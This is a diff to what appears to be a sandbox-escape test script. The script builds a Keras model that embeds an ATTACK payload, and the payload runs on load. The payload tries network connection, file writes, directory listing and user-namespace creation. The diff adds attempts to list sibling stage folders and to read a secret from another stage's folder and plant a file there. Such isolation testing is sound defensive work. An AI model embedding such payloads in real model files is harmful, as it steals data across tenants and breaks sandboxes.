@@ -12,17 +12,20 @@ process (its argv holds --config; nowhere else, so building the model here is ha
   - leave out/leak-<i> as a link to each canary (the host would read it when it hashes or publishes),
   - write into its first input bundle,
   - list the repository's folder,
+  - list the folder that holds its own stage folder, and read and write in a folder `999/out` there (in a
+    runtime's warm container, another stage's),
   - make a user namespace (where kernel exploits start),
 
 and prints what each attempt did, with its capabilities and whether it ran in a fork of a warm worker
 (MODELFERRY_PROCESS), as one line, `escape attempts: {json}`, to stderr (the stage's log).
 """
+
 import argparse
 from pathlib import Path
 
 import keras
 
-ATTACK = '''
+ATTACK = """
 import json, os, socket, sys
 if "--config" in sys.argv and not hasattr(sys, "escape_tried"):
     sys.escape_tried = True
@@ -48,6 +51,10 @@ if "--config" in sys.argv and not hasattr(sys, "escape_tried"):
     attempt("connect", connect)
     attempt("input", lambda: open(os.path.join(inputs[0], "escaped"), "w").write("escaped"))
     attempt("repository", lambda: sorted(os.listdir(REPOSITORY)))
+    stages = os.path.dirname(os.path.dirname(os.path.abspath(out)))
+    attempt("stages", lambda: sorted(os.listdir(stages)))
+    attempt("other stage", lambda: open(os.path.join(stages, "999", "out", "secret")).read())
+    attempt("other stage write", lambda: open(os.path.join(stages, "999", "out", "planted"), "w").write("x"))
 
     def user_namespace():
         import ctypes
@@ -63,7 +70,7 @@ if "--config" in sys.argv and not hasattr(sys, "escape_tried"):
     if leaked:
         print("error: leaked " + " ".join(leaked), file=sys.stderr, flush=True)
         os._exit(1)
-'''
+"""
 
 parser = argparse.ArgumentParser()
 parser.add_argument("out", type=Path)
@@ -73,8 +80,10 @@ parser.add_argument("--port", type=int, required=True)
 parser.add_argument("--repository", required=True)
 args = parser.parse_args()
 
-source = (f"MARKER = {args.marker!r}\nCANARIES = {args.canary!r}\nPORT = {args.port!r}\n"
-          f"REPOSITORY = {args.repository!r}\n{ATTACK}")
+source = (
+    f"MARKER = {args.marker!r}\nCANARIES = {args.canary!r}\nPORT = {args.port!r}\n"
+    f"REPOSITORY = {args.repository!r}\n{ATTACK}"
+)
 keras.utils.set_random_seed(0)
 inp = keras.Input((4,), name="x")
 
